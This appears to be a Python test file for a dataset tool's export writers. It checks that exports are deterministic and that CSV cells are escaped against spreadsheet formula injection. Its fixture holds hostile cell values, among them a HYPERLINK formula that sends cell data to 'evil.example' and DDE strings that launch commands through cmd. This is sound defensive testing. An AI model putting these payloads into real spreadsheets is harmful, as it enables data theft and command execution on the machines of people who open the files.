"""Exports: the writer registry behind ``convert``, ``export`` and releases;
every format deterministic, CSVs safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from unionstate import strategies
from unionstate.cli import main
from unionstate.converter import unstructure
from unionstate.dataset import data_dir
from unionstate.export import WRITERS, Writer, release_writers
from unionstate.export.tables import columns, escape_cell, render_csv, unescape_cell
from unionstate.model import RECORD_TYPES
from unionstate.release import derived_files

AVAILABLE = [name for name, w in WRITERS.items() if w.available()]


def _files(root: Path) -> dict[str, bytes]:
    if root.is_file():
        return {"": root.read_bytes()}
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in root.rglob("*") if p.is_file()}


@pytest.mark.parametrize("fmt", AVAILABLE)
def test_every_export_is_deterministic(fmt: str, tmp_path: Path) -> None:
    """The same data exported twice gives byte-identical files."""
    one, two = tmp_path / "one", tmp_path / "two"
    assert main(["export", "--to", fmt, "--out", str(one)]) == 0
    assert main(["export", "data", "--to", fmt, "--out", str(two)]) == 0
    first = _files(one)
    assert first
    assert all(first.values())
    assert first == _files(two)


def test_convert_and_export_write_the_same(tmp_path: Path) -> None:
    for fmt in ("jsonl", "csv"):
        assert main(["convert", "data", "--to", fmt, "--out", str(tmp_path / f"c-{fmt}")]) == 0
        assert main(["export", "--to", fmt, "--out", str(tmp_path / f"e-{fmt}")]) == 0
        assert _files(tmp_path / f"c-{fmt}") == _files(tmp_path / f"e-{fmt}")


def test_convert_to_csv_writes_the_release_tables(tmp_path: Path) -> None:
    """``convert --to csv`` writes one table per record type, the bytes a
    release holds in ``csv/``."""
    out = tmp_path / "tables"
    assert main(["convert", str(data_dir()), "--to", "csv", "--out", str(out)]) == 0
    assert sorted(p.name for p in out.iterdir()) == sorted(f"{t}s.csv" for t in RECORD_TYPES)
    from unionstate.io import read

    raw = read(data_dir())
    header = {k: v for k, v in (raw.header or {}).items() if k != "type"}
    released = derived_files(header, [r.data for r in raw.records])
    for p in out.iterdir():
        assert p.read_bytes() == released[f"csv/{p.name}"]
    rows = list(csv.DictReader(io.StringIO((out / "persons.csv").read_text("utf-8"))))
    assert "person/borodin" in {r["id"] for r in rows}


def test_folder_and_binary_formats_need_out(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["convert", "data", "--to", "csv"]) == 2
    assert "needs --out" in capsys.readouterr().err


def test_export_requires_out(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exc:
        main(["export", "--to", "csv"])
    assert exc.value.code == 2


def test_a_missing_optional_package_is_named(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    fake = Writer(
        "fake",
        "needs a package that is not installed",
        lambda header, records: {"fake.txt": b"x"},
        path="fake.txt",
        mediatype="text/plain",
        file_format="txt",
        requires="no_such_module_for_unionstate",
        extra="fake",
    )
    monkeypatch.setitem(WRITERS, "fake", fake)
    assert main(["export", "--to", "fake", "--out", str(tmp_path / "f")]) == 2
    err = capsys.readouterr().err
    assert "no_such_module_for_unionstate" in err
    assert "unionstate[fake]" in err
    assert not (tmp_path / "f").exists()


def test_export_refuses_invalid_data(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"type":"person","id":"person/x"}\n', encoding="utf-8")
    assert main(["export", str(bad), "--to", "csv", "--out", str(tmp_path / "o")]) == 1
    assert not (tmp_path / "o").exists()


def test_release_formats_have_distinct_paths() -> None:
    paths = [w.path for w in release_writers()]
    assert len(paths) == len(set(paths))
    assert {"jsonl", "json", "csv"} <= {w.name for w in release_writers()}


# -- spreadsheet formulas ------------------------------------------------------------------

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@given(st.text())
def test_escaped_cells_never_start_a_formula_and_round_trip(text: str) -> None:
    cell = escape_cell(text)
    assert not cell.startswith(TRIGGERS)
    assert unescape_cell(cell) == text
    if not text.lstrip("'").startswith(TRIGGERS):
        assert cell == text  # ordinary text is untouched, a leading quote included


def _hostile(tmp_path: Path) -> Path:
    """A valid dataset whose text fields start with formula triggers."""
    lines = [
        {"type": "dataset", "name": "t", "as_of": "2021-04-16"},
        {
            "type": "source",
            "id": "source/a",
            "url": "https://example.org/a",
            "title": '=HYPERLINK("https://evil.example/?"&A1,"click")',
            "publisher": "+cmd|' /C calc'!A0",
            "language": "en",
            "quote": "@SUM(1+1)*cmd|' /C calc'!A0",
        },
        {
            "type": "person",
            "id": "person/p",
            "names": [{"value": "-2+3+cmd|' /C calc'!A0", "lang": "en"}],
            "notes": "'=already quoted",
            "sources": ["source/a"],
        },
        {
            "type": "place",
            "id": "place/q",
            "names": [{"value": "Q", "lang": "en"}],
            "kind": "city",
            "notes": "'quoted words' first",
            "sources": ["source/a"],
        },
        {
            "type": "event",
            "id": "event/e",
            "kind": "meeting",
            "title": "\t=1+1",
            "date": "2021-04-16",
            "statuses": [{"status": "held", "date": "2021-04-16", "sources": ["source/a"]}],
            "participants": [{"actor": "person/p"}],
            "subjects": ["=oil"],
            "sources": ["source/a"],
        },
    ]
    p = tmp_path / "hostile.jsonl"
    p.write_text("".join(json.dumps(x) + "\n" for x in lines), encoding="utf-8")
    return p


def _cells(folder: Path) -> list[str]:
    out = []
    for f in sorted(folder.glob("*.csv")):
        out += [c for row in csv.reader(io.StringIO(f.read_text("utf-8"), newline="")) for c in row]
    return out


def _assert_no_formula(folder: Path) -> None:
    cells = _cells(folder)
    assert '\'=HYPERLINK("https://evil.example/?"&A1,"click")' in cells
    assert "'+cmd|' /C calc'!A0" in cells
    assert "'-2+3+cmd|' /C calc'!A0" not in cells  # a name sits in a JSON cell...
    assert "''=already quoted" in cells  # ...a quote before a trigger is doubled...
    assert "'quoted words' first" in cells  # ...other text is left as it is
    assert "'\t=1+1" in cells
    assert not [c for c in cells if c.startswith(TRIGGERS)]


def test_convert_and_release_csvs_carry_no_formula(tmp_path: Path) -> None:
    src = _hostile(tmp_path)
    assert main(["convert", str(src), "--to", "csv", "--out", str(tmp_path / "c")]) == 0
    _assert_no_formula(tmp_path / "c")
    assert main(["export", str(src), "--to", "csv", "--out", str(tmp_path / "e")]) == 0
    _assert_no_formula(tmp_path / "e")
    out = tmp_path / "dist"
    assert main(["release", str(src), "--version", "1.0.0", "--out", str(out)]) == 0
    _assert_no_formula(out / "unionstate-data-1.0.0" / "csv")
    assert main(["verify", str(out / "unionstate-data-1.0.0")]) == 0


def test_every_csv_value_is_recovered(tmp_path: Path) -> None:
    src = _hostile(tmp_path)
    assert main(["convert", str(src), "--to", "csv", "--out", str(tmp_path / "c")]) == 0
    rows = list(csv.DictReader(io.StringIO((tmp_path / "c" / "sources.csv").read_text("utf-8"))))
    assert unescape_cell(rows[0]["title"]) == '=HYPERLINK("https://evil.example/?"&A1,"click")'
    persons = list(csv.DictReader(io.StringIO((tmp_path / "c" / "persons.csv").read_text("utf-8"))))
    assert unescape_cell(persons[0]["notes"]) == "'=already quoted"
    cols = {c.name: c for c in columns("person")}
    assert cols["notes"].render({"notes": "=x"}) == "'=x"
    assert render_csv("person", []).startswith(b"id,")


# -- any records, any process ------------------------------------------------------------


@settings(max_examples=10)  # each example renders every format: a fixed count keeps CI short
@given(st.lists(strategies.records(), max_size=6, unique_by=lambda r: r.id))
def test_every_writer_takes_any_records(records: list[Any]) -> None:
    """Whatever the records (references to absent records included), every
    writer renders them, and twice the same."""
    data = [unstructure(r) for r in records]
    for w in WRITERS.values():
        if w.available():
            first = w.render({"name": "t"}, data)
            assert first == w.render({"name": "t"}, data), w.name


def test_exports_do_not_depend_on_the_process(tmp_path: Path) -> None:
    """Two processes with different hash seeds write the same bytes.

    Each process loads the canonical data once and renders every format from
    it (``unionstate export`` would read it once per format)."""
    script = (
        "import sys, unionstate\n"
        "from unionstate.export import writer\n"
        "from unionstate.io.write import write_files\n"
        "header, records = unionstate.load().to_raw()\n"
        "for fmt in sys.argv[2:]:\n"
        "    write_files(f'{sys.argv[1]}/{fmt}', writer(fmt).render(header, records))\n"
    )
    outs = []
    for seed in ("1", "2"):
        out = tmp_path / f"seed-{seed}"
        out.mkdir()
        env = {**os.environ, "PYTHONHASHSEED": seed}
        argv = [sys.executable, "-c", script, str(out), *AVAILABLE]
        subprocess.run(argv, check=True, env=env, capture_output=True)
        outs.append({fmt: _files(out / fmt) for fmt in AVAILABLE})
    assert outs[0] == outs[1]
    assert all(outs[0].values())
